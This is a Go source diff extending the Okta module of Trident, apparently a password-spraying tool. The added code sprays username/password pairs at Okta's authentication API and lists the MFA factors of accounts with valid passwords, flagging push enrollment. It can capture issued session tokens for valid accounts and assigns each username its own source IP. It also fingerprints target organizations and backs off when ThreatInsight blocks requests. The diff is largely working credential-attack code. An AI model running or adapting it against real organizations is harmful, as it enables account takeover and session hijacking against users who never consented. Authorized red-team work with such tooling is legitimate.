@@ -20,12 +20,16 @@ import (
 	"encoding/json"
 	"fmt"
 	"net/http"
+	"net/url"
 	"time"
 
 	"golang.org/x/time/rate"
 
+	"github.com/praetorian-inc/trident/pkg/egress"
 	"github.com/praetorian-inc/trident/pkg/event"
 	"github.com/praetorian-inc/trident/pkg/nozzle"
+	"github.com/praetorian-inc/trident/pkg/retry"
+	"github.com/praetorian-inc/trident/pkg/rules"
 	"github.com/praetorian-inc/trident/pkg/util"
 )
 
@@ -40,6 +44,10 @@ const (
 var (
 	// RateLimiter limits requests from the same worker to a maximum of 3/s
 	RateLimiter = rate.NewLimiter(rate.Every(300*time.Millisecond), 1)
+
+	// AllowedDomains are the domain suffixes of the Okta cells. organizations
+	// outside of these domains require the allow_custom_domain option.
+	AllowedDomains = []string{".okta.com", ".okta-emea.com", ".oktapreview.com"}
 )
 
 // Driver implements the nozzle.Driver interface.
@@ -52,77 +60,256 @@ func init() {
 // New is used to create an Okta nozzle and accepts the following configuration
 // options:
 //
-// domain
+// subdomain
 //
 // The subdomain of the Okta organization. If a user logs in at
 // example.okta.com, the value of subdomain is "example".
+//
+// domain
+//
+// The full hostname of the Okta organization (e.g. example.okta-emea.com). It
+// takes precedence over subdomain and must belong to one of the Okta cells in
+// AllowedDomains unless allow_custom_domain is set.
+//
+// allow_custom_domain
+//
+// If "true", domain may be any hostname, which is required to target
+// organizations using a custom (vanity) domain such as id.example.org.
+//
+// enumerate_factors
+//
+// If "true", the MFA factors enrolled by users with valid credentials are
+// recorded in the result's metadata. Factors are only listed, never
+// challenged, so users are not notified.
+//
+// capture_session
+//
+// If "true", the session token issued to users with valid credentials (and no
+// MFA) is captured in the (sealed) session of the result. Session tokens are
+// short lived and can be exchanged once for a session cookie.
+//
+// capture_response
+//
+// If "true", the raw response of each login is captured in the (sealed)
+// response of the result, so that it can be re-classified later.
+//
+// source_ip, interface, ip_version
+//
+// Bind the requests to local source addresses, either listed in source_ip or
+// taken from a network interface. Each username is always sent from the same
+// address. See egress.Parse for details.
 func (Driver) New(opts map[string]string) (nozzle.Nozzle, error) {
-	subdomain, ok := opts["subdomain"]
+	domain, ok := opts["domain"]
 	if !ok {
-		return nil, fmt.Errorf("okta nozzle requires 'subdomain' config parameter")
+		subdomain, ok := opts["subdomain"]
+		if !ok {
+			return nil, fmt.Errorf("okta nozzle requires 'domain' or 'subdomain' config parameter")
+		}
+		domain = subdomain + ".okta.com"
+	}
+
+	err := validateDomain(domain, opts["allow_custom_domain"] == "true")
+	if err != nil {
+		return nil, err
+	}
+
+	bind, err := egress.Parse(opts)
+	if err != nil {
+		return nil, err
 	}
 
 	return &Nozzle{
-		Subdomain: subdomain,
-		UserAgent: FrozenUserAgent,
+		Domain:           domain,
+		UserAgent:        FrozenUserAgent,
+		EnumerateFactors: opts["enumerate_factors"] == "true",
+		CaptureSession:   opts["capture_session"] == "true",
+		CaptureResponse:  opts["capture_response"] == "true",
+		Egress:           bind,
 	}, nil
 }
 
+// validateDomain ensures the domain is a bare hostname and, unless custom
+// domains are allowed, that it belongs to one of the AllowedDomains.
+func validateDomain(domain string, allowCustom bool) error {
+	u, err := url.Parse("https://" + domain)
+	if err != nil {
+		return err
+	}
+	if u.Host != domain || u.Hostname() != domain || domain == "" {
+		return fmt.Errorf("okta domain must be a hostname, got %q", domain)
+	}
+	if allowCustom {
+		return nil
+	}
+
+	for _, suffix := range AllowedDomains {
+		if util.ValidateURLSuffix(u.String(), suffix) == nil {
+			return nil
+		}
+	}
+	return fmt.Errorf("okta domain %s is not an okta domain, set allow_custom_domain to "+
+		"target a custom domain", domain)
+}
+
 // Nozzle implements the nozzle.Nozzle interface for Okta.
 type Nozzle struct {
-	// Subdomain is the Okta subdomain
-	Subdomain string
+	// Domain is the hostname of the Okta organization
+	Domain string
 
 	// UserAgent will override the Go-http-client user-agent in requests
 	UserAgent string
+
+	// EnumerateFactors records the enrolled MFA factors of valid users
+	EnumerateFactors bool
+
+	// CaptureSession captures the session token issued to valid users
+	CaptureSession bool
+
+	// CaptureResponse captures the raw response of each login
+	CaptureResponse bool
+
+	// Egress binds the requests to local source addresses, if set
+	Egress *egress.Binding
 }
 
 type oktaAuthResponse struct {
-	Status   string                 `json:"status"`
-	Factor   string                 `json:"factorResult"`
-	Embedded map[string]interface{} `json:"_embedded"`
+	Status       string                 `json:"status"`
+	StateToken   string                 `json:"stateToken"`
+	SessionToken string                 `json:"sessionToken"`
+	ExpiresAt    string                 `json:"expiresAt"`
+	Factor       string                 `json:"factorResult"`
+	Embedded     map[string]interface{} `json:"_embedded"`
+}
+
+type oktaError struct {
+	ErrorCode    string `json:"errorCode"`
+	ErrorSummary string `json:"errorSummary"`
+}
+
+type oktaFactorsResponse struct {
+	Embedded struct {
+		Factors []oktaFactor `json:"factors"`
+	} `json:"_embedded"`
+}
+
+type oktaFactor struct {
+	FactorType string `json:"factorType"`
+	Provider   string `json:"provider"`
+	VendorName string `json:"vendorName"`
+}
+
+// Factor summarizes an MFA factor enrolled by a user.
+type Factor struct {
+	// Type is the Okta factor type (e.g. push, sms, token:software:totp)
+	Type string `json:"type"`
+
+	// Provider is the factor provider (e.g. OKTA, GOOGLE)
+	Provider string `json:"provider"`
+
+	// Vendor is the vendor name of the factor, if any
+	Vendor string `json:"vendor,omitempty"`
+}
+
+// post sends a JSON request to the Okta authentication API.
+func (n *Nozzle) post(ctx context.Context, client *http.Client, path string,
+	body interface{}) (*http.Response, error) {
+	data, _ := json.Marshal(body)
+	req, err := http.NewRequestWithContext(ctx, "POST", fmt.Sprintf("https://%s%s", n.Domain, path),
+		bytes.NewBuffer(data))
+	if err != nil {
+		return nil, err
+	}
+
+	req.Header.Set("Content-Type", "application/json")
+	req.Header.Set("User-Agent", n.UserAgent)
+
+	return client.Do(req)
 }
 
 // Login fulfils the nozzle.Nozzle interface and performs an authentication
 // requests against Okta. This function supports rate limiting and parses valid,
 // invalid, and locked out responses.
-func (n *Nozzle) Login(username, password string) (*event.AuthResponse, error) {
-	ctx := context.Background()
+func (n *Nozzle) Login(ctx context.Context, username, password string) (*event.AuthResponse, error) {
 	err := RateLimiter.Wait(ctx)
 	if err != nil {
 		return nil, err
 	}
 
-	url := fmt.Sprintf("https://%s.okta.com/api/v1/authn", n.Subdomain)
-	err = util.ValidateURLSuffix(url, ".okta.com")
+	// all requests of a login are sent from the address of the username
+	client, err := n.Egress.Client(http.DefaultClient, username)
 	if err != nil {
-		return nil, err
+		return nil, retry.New(retry.ClassConfig, err)
 	}
 
-	data, _ := json.Marshal(map[string]string{
+	resp, err := n.post(ctx, client, "/api/v1/authn", map[string]string{
 		"username": username,
 		"password": password,
 	})
-	req, err := http.NewRequest("POST", url, bytes.NewBuffer(data))
 	if err != nil {
 		return nil, err
 	}
+	defer resp.Body.Close() // nolint:errcheck
 
-	req.Header.Set("Content-Type", "application/json")
-	req.Header.Set("User-Agent", n.UserAgent)
-
-	resp, err := http.DefaultClient.Do(req)
+	r, err := rules.NewResponse(resp)
+	if err != nil {
+		return nil, err
+	}
+	res, err := n.Classify(r)
 	if err != nil {
 		return nil, err
 	}
-	defer resp.Body.Close() // nolint:errcheck
 
-	switch resp.StatusCode {
+	if res.Valid && r.StatusCode == 200 && (n.EnumerateFactors || n.CaptureSession) {
+		var authn oktaAuthResponse
+		err = json.Unmarshal(r.Body, &authn)
+		if err != nil {
+			return nil, retry.New(retry.ClassParse, err)
+		}
+
+		if n.EnumerateFactors && authn.Status == "MFA_REQUIRED" {
+			// the password is valid regardless of whether the factors
+			// could be listed, so a failure is only recorded
+			if res.Metadata == nil {
+				res.Metadata = make(map[string]interface{})
+			}
+			factors, err := n.factors(ctx, client, r.Body, authn.StateToken)
+			if err != nil {
+				res.Metadata["factors_error"] = err.Error()
+			} else {
+				res.Metadata["factors"] = factors
+				res.Metadata["push_enrolled"] = hasFactor(factors, "push")
+			}
+		}
+
+		if n.CaptureSession && authn.SessionToken != "" {
+			res.Session = nozzle.Session(map[string]interface{}{
+				"session_token": authn.SessionToken,
+				"expires_at":    authn.ExpiresAt,
+			})
+		}
+	}
+	if n.CaptureResponse {
+		res.Response = r.Encode()
+	}
+	return res, nil
+}
+
+// Classify fulfils the nozzle.Classifier interface and classifies a response
+// of the primary authentication API.
+func (n *Nozzle) Classify(r *rules.Response) (*event.AuthResponse, error) {
+	if res, ok, err := rules.Classify("okta", r); ok {
+		return res, err
+	}
+	if res, ok := rules.DetectCaptcha(r); ok {
+		return res, nil
+	}
+
+	switch r.StatusCode {
 	case 200:
 		var res oktaAuthResponse
-		err = json.NewDecoder(resp.Body).Decode(&res)
+		err := json.Unmarshal(r.Body, &res)
 		if err != nil {
-			return nil, err
+			return nil, retry.New(retry.ClassParse, err)
 		}
 
 		return &event.AuthResponse{
@@ -135,11 +322,163 @@ func (n *Nozzle) Login(username, password string) (*event.AuthResponse, error) {
 		return &event.AuthResponse{
 			Valid: false,
 		}, nil
+	case 403:
+		// network zone blocklists and ThreatInsight deny requests before the
+		// password is verified, so a denied login says nothing about the
+		// password and is backed off like a rate limit
+		var res oktaError
+		err := json.Unmarshal(r.Body, &res)
+		if err != nil {
+			return nil, retry.New(retry.ClassParse, err)
+		}
+		if res.ErrorCode != "E0000006" {
+			return nil, retry.Errorf(retry.ClassifyStatus(r.StatusCode),
+				"unhandled error from okta provider: %s (%s)", res.ErrorCode, res.ErrorSummary)
+		}
+		return &event.AuthResponse{
+			RateLimited: true,
+			Metadata: map[string]interface{}{
+				"policy": res.ErrorSummary,
+			},
+		}, nil
 	case 429:
 		return &event.AuthResponse{
 			RateLimited: true,
 		}, nil
 	}
 
-	return nil, fmt.Errorf("unhandled status code from okta provider: %d", resp.StatusCode)
+	return nil, retry.Errorf(retry.ClassifyStatus(r.StatusCode),
+		"unhandled status code from okta provider: %d", r.StatusCode)
+}
+
+type oktaOrganization struct {
+	ID       string `json:"id"`
+	Pipeline string `json:"pipeline"`
+}
+
+// Fingerprint fulfils the nozzle.Fingerprinter interface. it reads the
+// public metadata of the organization, which reveals whether it runs the
+// Identity Engine (whose authentication policies may disable the primary
+// authentication API) and the rate limit applied to the egress. a denied
+// request is recorded as blocked, as ThreatInsight and network zone
+// blocklists deny requests before any login is attempted.
+func (n *Nozzle) Fingerprint(ctx context.Context, username string) (map[string]string, error) {
+	err := RateLimiter.Wait(ctx)
+	if err != nil {
+		return nil, err
+	}
+
+	client, err := n.Egress.Client(http.DefaultClient, username)
+	if err != nil {
+		return nil, retry.New(retry.ClassConfig, err)
+	}
+	req, err := http.NewRequestWithContext(ctx, "GET",
+		fmt.Sprintf("https://%s/.well-known/okta-organization", n.Domain), nil)
+	if err != nil {
+		return nil, err
+	}
+	req.Header.Set("Accept", "application/json")
+	req.Header.Set("User-Agent", n.UserAgent)
+
+	resp, err := client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close() // nolint:errcheck
+
+	features := make(map[string]string)
+	if limit := resp.Header.Get("X-Rate-Limit-Limit"); limit != "" {
+		features["rate_limit"] = limit
+	}
+	switch resp.StatusCode {
+	case 200:
+	case 403:
+		features["blocked"] = "true"
+		return features, nil
+	default:
+		return nil, fmt.Errorf("unexpected status code from okta provider: %d", resp.StatusCode)
+	}
+
+	var org oktaOrganization
+	err = json.NewDecoder(resp.Body).Decode(&org)
+	if err != nil {
+		return nil, retry.New(retry.ClassParse, err)
+	}
+	features["org_id"] = org.ID
+	features["pipeline"] = org.Pipeline
+	if org.Pipeline == "idx" {
+		features["engine"] = "identity engine"
+	} else {
+		features["engine"] = "classic"
+	}
+	return features, nil
+}
+
+// factors lists the factors enrolled by a user from an MFA_REQUIRED response.
+// if the response omits them, the current state of the transaction is
+// requested with the state token. no factor is ever challenged, and the
+// transaction is cancelled once the factors are known.
+func (n *Nozzle) factors(ctx context.Context, client *http.Client, body []byte,
+	stateToken string) ([]Factor, error) {
+	var res oktaFactorsResponse
+	err := json.Unmarshal(body, &res)
+	if err != nil {
+		return nil, retry.New(retry.ClassParse, err)
+	}
+
+	if stateToken != "" {
+		defer n.cancel(ctx, client, stateToken)
+	}
+
+	if len(res.Embedded.Factors) == 0 && stateToken != "" {
+		err = RateLimiter.Wait(ctx)
+		if err != nil {
+			return nil, err
+		}
+
+		resp, err := n.post(ctx, client, "/api/v1/authn", map[string]string{"stateToken": stateToken})
+		if err != nil {
+			return nil, err
+		}
+		defer resp.Body.Close() // nolint:errcheck
+
+		if resp.StatusCode != 200 {
+			return nil, retry.Errorf(retry.ClassifyStatus(resp.StatusCode),
+				"unhandled status code from okta provider: %d", resp.StatusCode)
+		}
+		err = json.NewDecoder(resp.Body).Decode(&res)
+		if err != nil {
+			return nil, retry.New(retry.ClassParse, err)
+		}
+	}
+
+	factors := make([]Factor, 0, len(res.Embedded.Factors))
+	for _, f := range res.Embedded.Factors {
+		factors = append(factors, Factor{
+			Type:     f.FactorType,
+			Provider: f.Provider,
+			Vendor:   f.VendorName,
+		})
+	}
+	return factors, nil
+}
+
+// cancel ends an authentication transaction. errors are ignored since the
+// transaction expires regardless.
+func (n *Nozzle) cancel(ctx context.Context, client *http.Client, stateToken string) {
+	resp, err := n.post(ctx, client, "/api/v1/authn/cancel", map[string]string{"stateToken": stateToken})
+	if err != nil {
+		return
+	}
+	resp.Body.Close() // nolint:errcheck,gosec
+}
+
+// hasFactor returns true if the user enrolled a factor of the given type.
+func hasFactor(factors []Factor, factorType string) bool {
+	for _, f := range factors {
+		if f.Type == factorType {
+			return true
+		}
+	}
+	return false
 }